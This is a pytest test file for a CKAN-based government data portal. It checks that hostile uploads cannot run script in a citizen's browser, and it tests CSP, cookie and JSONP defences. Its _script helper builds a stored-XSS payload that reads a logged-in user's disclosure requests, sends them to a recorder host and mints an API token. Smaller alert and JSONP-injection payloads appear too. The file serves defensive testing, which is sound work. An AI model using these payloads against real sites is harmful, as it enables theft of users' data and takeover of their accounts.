"""Stored XSS through uploads, and the browser-side defences of every page.

Replayed as the attack was: an editor uploads an HTML page (and SVG, XML,
JavaScript, HTML dressed as a PNG, a resource whose ``mimetype`` says
text/html) to a public record; a logged-in citizen opens it in a real browser
(Debian's chromium) and its script tries to read their disclosure requests
and mint an API token. Then the headers of the portal's own pages, its
cookies and JSONP callbacks.
"""
from __future__ import annotations

import io
import struct
import zlib

import pytest
from ckan import model
from ckan.tests import factories, helpers

from harvesters.standins.files import reportlab_pdf
from tests.conftest import PLUGINS

pytestmark = [pytest.mark.ckan_config("ckan.plugins", PLUGINS), pytest.mark.usefixtures("with_plugins", "harvest_db")]


def _png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00\x00")) + chunk(b"IEND", b""))


def _script(recorder: str) -> str:
    """What the attacker's page does with a visitor's session."""
    return (f"<script>fetch('/api/3/action/seoulplaza_disclosure_request_list').then(r => r.text())"
            f".then(t => fetch('{recorder}/stolen?d=' + encodeURIComponent(t), {{mode: 'no-cors'}}));"
            f"fetch('/api/3/action/api_token_create', {{method: 'POST', headers: {{'Content-Type': "
            f"'application/json'}}, body: JSON.stringify({{user: 'me', name: 'pwned'}})}});"
            f"fetch('{recorder}/ran', {{mode: 'no-cors'}});</script>")


HOSTILE = {  # file name -> (content, what the editor claims it is); served as they came
    "chart.svg": ('<svg xmlns="http://www.w3.org/2000/svg" onload="{onload}">{script}</svg>', {}),
    "app.js": ("alert(document.domain)", {}),
    "table.csv": ("<html>{script}</html>", {"mimetype": "text/html"}),
}


@pytest.fixture
def editor(harvest_db):
    user = factories.UserWithToken()
    org = factories.Organization(users=[{"name": user["name"], "capacity": "editor"}])
    dataset = factories.Dataset(type="opendata", owner_org=org["id"], title="첨부 자료", department="정보공개과",
                                production_date="2024-01-01", disclosure_class="공개",
                                source_system="예산관리시스템", source_id="XSS-1")
    return user, dataset


def _upload(app, user, dataset, name: str, content: bytes, **fields) -> dict:
    answer = app.post("/api/3/action/resource_create", headers={"Authorization": user["token"]},
                      data={"package_id": dataset["id"], "name": name, **fields,
                            "upload": (io.BytesIO(content), name)})
    assert answer.status_code == 200, answer.body[:300]
    return answer.json["result"]


def _download(app, dataset, resource):
    return app.get(f"/dataset/{dataset['id']}/resource/{resource['id']}/download/{resource['url'].rsplit('/', 1)[-1]}")


def test_uploads_are_served_as_downloads_that_cannot_run(app, editor):
    user, dataset = editor
    for name, (template, claims) in HOSTILE.items():
        content = template.format(script=_script("http://127.0.0.1:9"), onload="alert(1)").encode()
        resource = _upload(app, user, dataset, name, content, **claims)
        got = _download(app, dataset, resource)
        assert got.status_code == 200 and content[-20:] in got.data
        headers = got.headers
        assert headers["Content-Disposition"].startswith("attachment"), (name, headers)
        assert "sandbox" in headers["Content-Security-Policy"] and "default-src 'none'" in headers[
            "Content-Security-Policy"], name
        assert headers["X-Content-Type-Options"] == "nosniff"
        kind = headers["Content-Type"]
        for scriptable in ("html", "svg", "xml", "javascript", "image/png"):
            assert scriptable not in kind, (name, kind)


@pytest.mark.parametrize("name, claims", [("notice.html", {}), ("photo.png", {"format": "PNG", "mimetype": "image/png"}),
                                          ("feed.xml", {})])
def test_an_uploaded_web_page_is_published_as_the_pdf_of_its_text(app, editor, name, claims):
    """An HTML file (whatever it claims to be) is a document: published as the PDF of its
    masked reading, no markup, no script."""
    user, dataset = editor
    content = (f'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body>공지{_script("http://127.0.0.1:9")}'
               f'</body></html>').encode()
    resource = _upload(app, user, dataset, name, content, **claims)
    got = _download(app, dataset, resource)
    assert resource["url"].endswith(name.rsplit(".", 1)[0] + ".pdf") and got.headers["Content-Type"] == "application/pdf"
    assert got.data.startswith(b"%PDF") and b"<script" not in got.data and b"fetch(" not in got.data


def test_real_pdfs_stay_inline_for_previews_and_pictures_are_refused(app, editor):
    """A picture cannot be read for private data (a scanned letter is a picture too), so an
    upload of one is refused with the reason; a PDF is previewed inline."""
    user, dataset = editor
    got = _download(app, dataset, _upload(app, user, dataset, "report.pdf", reportlab_pdf(["보고서"]),
                                          mimetype="text/html"))
    assert got.headers["Content-Type"] == "application/pdf" and not got.headers.get(
        "Content-Disposition", "inline").startswith("attachment"), got.headers
    assert got.headers["X-Content-Type-Options"] == "nosniff"
    for name in ("map.png", "map.bin"):
        answer = app.post("/api/3/action/resource_create", headers={"Authorization": user["token"]},
                          data={"package_id": dataset["id"], "name": name, "mimetype": "image/png",
                                "upload": (io.BytesIO(_png()), name)})
        assert answer.status_code == 409 and "읽을 수 없어" in str(answer.json["error"]), (name, answer.json)


def test_organization_images_in_storage_are_user_content_too(app, harvest_db):
    sysadmin = factories.SysadminWithToken()
    answer = app.post("/api/3/action/organization_create", headers={"Authorization": sysadmin["token"]},
                      data={"name": "with-logo", "image_upload": (io.BytesIO(_png()), "logo.png")})
    image = answer.json["result"]["image_display_url"]
    got = app.get(image[image.index("/uploads/"):])
    assert got.status_code == 200 and got.headers["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in got.headers["Content-Security-Policy"]


def test_a_citizen_opening_an_uploaded_page_in_a_browser_loses_nothing(app, live_server, browser, editor,
                                                                      internal_server, ckan_config, monkeypatch):
    user, dataset = editor
    monkeypatch.setitem(ckan_config, "ckan.site_url", live_server)
    citizen = factories.User(password="correct-horse-9")
    tokens_before = model.Session.query(model.ApiToken).filter_by(user_id=citizen["id"]).count()
    resources = []
    for name in ("chart.svg",):
        template, claims = HOSTILE[name]
        content = template.format(script=_script(internal_server.url),
                                  onload=f"fetch('{internal_server.url}/onload', {{mode: 'no-cors'}})").encode()
        resources.append(_upload(app, user, dataset, name, content, **claims))
    page = browser.new_page(accept_downloads=True)
    page.goto(f"{live_server}/user/login")
    page.fill("#field-login", citizen["name"])
    page.fill("#field-password", "correct-horse-9")
    page.click("form button[type=submit]")
    page.wait_for_load_state()
    for resource in resources:
        url = f"{live_server}/dataset/{dataset['id']}/resource/{resource['id']}/download/" \
              f"{resource['url'].rsplit('/', 1)[-1]}"
        with page.expect_download():
            try:
                page.goto(url)
            except Exception as navigation:  # the download ends the navigation
                assert "Download is starting" in str(navigation)
    page.wait_for_timeout(1500)
    assert internal_server.hits == []
    assert model.Session.query(model.ApiToken).filter_by(user_id=citizen["id"]).count() == tokens_before


# The portal's own pages


PAGES = ["/", "/dataset/", "/status", "/api-guide", "/user/login", "/api/3/action/status_show"]


def test_pages_send_a_content_security_policy_and_framing_and_referrer_rules(app):
    for url in PAGES:
        headers = app.get(url).headers
        policy = headers["Content-Security-Policy"]
        for directive in ("script-src 'self'", "object-src 'none'", "frame-ancestors 'self'", "base-uri 'self'"):
            assert directive in policy, (url, policy)
        assert "unsafe-eval" not in policy and "script-src 'self' 'unsafe-inline'" not in policy
        assert headers["X-Frame-Options"] == "SAMEORIGIN" and headers["X-Content-Type-Options"] == "nosniff"
        assert headers["Referrer-Policy"] == "strict-origin-when-cross-origin"
        assert "Strict-Transport-Security" not in headers  # http here


def _login_cookies(app, password="correct-horse-9") -> list[str]:
    """The cookies a login with "remember me" sets."""
    user = factories.User(password=password)
    answer = app.post("/user/login", data={"login": user["name"], "password": password, "remember": "63072000"},
                      follow_redirects=False)
    assert answer.status_code == 302
    return answer.headers.getlist("Set-Cookie")


def test_cookies_are_samesite_lax_and_not_secure_over_http(app):
    cookies = _login_cookies(app)
    assert cookies and all("SameSite=Lax" in c for c in cookies), cookies
    assert not any("SameSite=None" in c for c in cookies)


@pytest.mark.ckan_config("ckan.site_url", "https://opengov.example.org")
def test_cookies_are_secure_and_hsts_is_sent_when_the_site_is_https(app):
    cookies = _login_cookies(app)
    assert cookies and all("Secure" in c and "SameSite=Lax" in c for c in cookies), cookies
    assert app.get("/").headers["Strict-Transport-Security"].startswith("max-age=")


def test_jsonp_callbacks_are_plain_names(app):
    good = app.get("/api/3/action/status_show", query_string={"callback": "plaza.handle_1"})
    assert good.status_code == 200 and good.body.startswith("plaza.handle_1(")
    for callback in ("alert(1)//", "x;alert(1)", "a=b", "(function(){})", "x" * 100):
        bad = app.get("/api/3/action/status_show", query_string={"callback": callback})
        assert bad.status_code == 400 and callback not in bad.body, callback
